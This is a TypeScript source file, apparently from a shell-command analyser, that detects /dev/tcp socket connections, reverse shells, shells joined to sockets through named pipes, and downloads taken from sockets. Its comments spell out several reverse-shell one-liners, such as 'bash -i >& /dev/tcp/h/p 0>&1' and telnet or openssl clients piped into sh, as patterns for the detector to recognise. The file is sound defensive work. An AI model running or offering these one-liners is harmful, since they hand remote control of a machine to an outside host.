import type { CommandContext, CommandReader } from '../command-effects.ts';
import type { EffectDraft, Endpoint } from '../effect.ts';
import type { CommandDraft } from '../language.ts';
import { concat, known, literals, render, textOf, type Value } from '../value.ts';
import { devSocket } from './dev-socket.ts';
import { interpreterKind, invocationOf } from './interpreters.ts';
import { pipeline } from './pipeline.ts';
import { absolutePath } from './place.ts';
import { isOutput } from './written.ts';

/**
 * Bash's own sockets: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p` and what is later joined to descriptor 3.
 * A connection has a `shell` only when an interpreter that takes orders from its standard input, or a command that is
 * not known beforehand, has that socket as its standard streams.
 */
export const devSocketEffects: CommandReader = (command, context) => {
  const effects: EffectDraft[] = [];
  const joined = new Set<string>();
  for (const redirect of command.redirects) {
    const to = devSocket(redirect.target) ?? socketOfDescriptor(redirect.target, redirect.op, command, context);
    if (!to) continue;
    const key = render([...to.host, ':', ...(to.port ?? [])]);
    if (joined.has(key)) continue;
    joined.add(key);
    const program = takesOrders(command, context, redirect.fd);
    if (program !== undefined) {
      effects.push({
        kind: 'connect',
        to,
        shell: { program, how: `standard streams redirected to /dev/${to.protocol}` },
      });
    } else {
      if (devSocket(redirect.target)) effects.push({ kind: 'connect', to });
      if (redirect.fd === 0) effects.push(...takenFrom(to, command, context));
    }
  }
  return effects;
};

/** `cat <&3 > FILE`, `cat <&3 | sed … > FILE`: what a socket sends becomes a file. */
function takenFrom(to: Endpoint, command: CommandDraft, context: CommandContext): readonly EffectDraft[] {
  const members = pipeline(command, context);
  const last = members.at(-1) ?? command;
  if (members.slice(members.indexOf(command)).some((member) => !copiers.has(member.name))) return [];
  const file =
    last.redirects.find(({ op, fd, target }) => fd === 1 && isOutput(op) && !devSocket(target))?.target ??
    (last.name === 'tee' ? last.argv.slice(1).find((word) => !literals(word).startsWith('-')) : undefined);
  if (file === undefined || /^\d{0,4}-?$/.test(textOf(file) ?? 'x')) return [];
  const port = to.port === undefined ? [] : [known(':'), to.port];
  const url = concat(known(`${to.protocol}://`), to.host, ...port);
  return [{ kind: 'fetch', url, to: absolutePath(command, file), tool: `/dev/${to.protocol}` }];
}

/** Programs that pass on what they read, all of it or a part. */
const copiers = new Set([
  ...['cat', 'tee', 'head', 'tail', 'sed', 'grep', 'egrep', 'awk', 'gawk', 'dd', 'cut', 'tr', 'read'],
  ...['base64', 'gunzip', 'gzip', 'zcat', 'xz', 'bunzip2', 'openssl', 'xxd'],
]);

/** The socket an earlier `exec N<>/dev/tcp/…` opened as this descriptor. */
function socketOfDescriptor(
  target: Value,
  op: string,
  command: CommandDraft,
  context: CommandContext,
): Endpoint | undefined {
  const wanted = textOf(target)?.replace(/-$/, '');
  if (!wanted || !/^\d{1,4}$/.test(wanted) || Number(wanted) < 3 || !op.includes('&')) return undefined;
  const earlier = [...context.peers.slice(0, context.position), command];
  for (let index = earlier.length - 1; index >= 0; index -= 1) {
    for (const redirect of earlier[index]?.redirects ?? []) {
      if (redirect.fd !== Number(wanted)) continue;
      const socket = devSocket(redirect.target);
      if (socket) return socket;
    }
  }
  return undefined;
}

/** The program that takes orders from the socket, when one does. */
function takesOrders(command: CommandDraft, context: CommandContext, fd: number): string | undefined {
  const kind = interpreterKind(command.name);
  if (kind) {
    const how = invocationOf(command);
    return how.readsStdin && fd <= 2 ? command.name : undefined;
  }
  if (command.name === 'exec' && fd === 0) return takeOverName(command);
  if (command.name === 'eval' && command.argv.slice(1).some((value) => textOf(value) === undefined)) return 'eval';
  if (command.name === '' && command.argv[0] !== undefined && textOf(command.argv[0]) === undefined && fd >= 1) {
    return readsLoop(context) ? 'sh' : undefined;
  }
  // `cat <&5 | while read l; do $l >&5; done`: the unknown command joined to the socket is found above; the reader alone is not.
  const members = pipeline(command, context);
  const shell = members.find((peer) => interpreterKind(peer.name) && invocationOf(peer).readsStdin);
  return shell && fd === 0 ? shell.name : undefined;
}

/** `exec 0</dev/tcp/…` hands the running shell itself to the socket. */
function takeOverName(command: CommandDraft): string {
  const next = command.argv[1];
  return next === undefined ? 'sh' : (textOf(next) ?? 'sh');
}

function readsLoop(context: CommandContext): boolean {
  return context.peers.some((peer) => peer.name === 'read' || peer.name === 'readarray' || peer.name === 'mapfile');
}

/** `telnet h p | sh | telnet h q`, `sh -i <f | openssl s_client -connect h:p >f`: a client in a pipeline with a shell. */
export function pipedShell(
  command: CommandDraft,
  context: CommandContext,
): { readonly program: string; readonly how: string } | undefined {
  const members = pipeline(command, context);
  const own = members.indexOf(command);
  const shellAt = members.findIndex(
    (peer) => peer !== command && interpreterKind(peer.name) && invocationOf(peer).readsStdin,
  );
  const shell = members[shellAt];
  if (shell && shellAt > own) return { program: shell.name, how: `${command.name} piped into ${shell.name}` };
  if (shell && (invocationOf(shell).interactive || readsPipeFile(members, context))) {
    return { program: shell.name, how: `${shell.name} joined to ${command.name} through a named pipe` };
  }
  return undefined;
}

/** Whether a named pipe made earlier, or a file the pipeline itself writes, feeds the pipeline. */
function readsPipeFile(members: readonly CommandDraft[], context: CommandContext): boolean {
  const made = new Set<string>();
  for (const peer of context.peers) {
    if (peer.name === 'mkfifo' || (peer.name === 'mknod' && peer.argv.some((value) => textOf(value) === 'p'))) {
      for (const value of peer.argv.slice(1)) made.add(render(value));
    }
  }
  for (const member of members) {
    for (const redirect of member.redirects) if (redirect.op.startsWith('>')) made.add(render(redirect.target));
  }
  return members.some(
    (member) =>
      member.redirects.some((redirect) => redirect.op.startsWith('<') && made.has(render(redirect.target))) ||
      (member.name === 'cat' &&
        member.argv.slice(1).some((value) => literals(value) !== '' && made.has(render(value)))),
  );
}
